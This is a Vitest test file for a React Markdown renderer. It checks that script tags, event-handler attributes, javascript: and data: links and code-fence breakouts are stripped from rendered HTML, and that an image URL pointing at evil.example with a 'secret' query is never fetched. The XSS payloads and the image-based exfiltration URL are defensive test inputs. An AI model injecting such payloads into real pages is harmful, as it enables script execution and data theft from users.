import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { TooltipProvider } from "@/components/ui/tooltip";
import { Markdown } from "./markdown";

const render = (text: string) =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} />
    </TooltipProvider>,
  );

describe("an answer's Markdown", () => {
  it.each([
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<iframe src=https://evil.example></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js"onmouseover="alert(1)\nx\n```',
  ])("runs nothing of %s", (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(script|iframe|svg (?!xmlns))/i);
    expect(html).not.toMatch(/(href|src)="\s*(javascript|vbscript|data):/i);
    expect(html).not.toMatch(/<[^>]*\son[a-z]+=/i);
  });

  it("opens links apart from this page and tells them nothing", () => {
    expect(render("[docs](https://example.com/a)")).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    );
  });

  it("fetches no picture, and offers its address as a link", () => {
    const html = render("![a chart](https://evil.example/?q=secret)");
    expect(html).not.toContain("<img");
    expect(html).toContain(">a chart</a>");
  });

  it("highlights code and keeps its text", () => {
    const html = render("```ts\nconst a = 1;\n```");
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain("ts");
  });

  it("draws tables and task lists", () => {
    expect(render("| a | b |\n|---|---|\n| 1 | 2 |")).toContain("<table>");
    expect(render("- [x] done")).toContain('type="checkbox"');
  });

  it("keeps its headings below those of the page", () => {
    expect(render("# Title")).toContain("<h3>Title</h3>");
  });
});
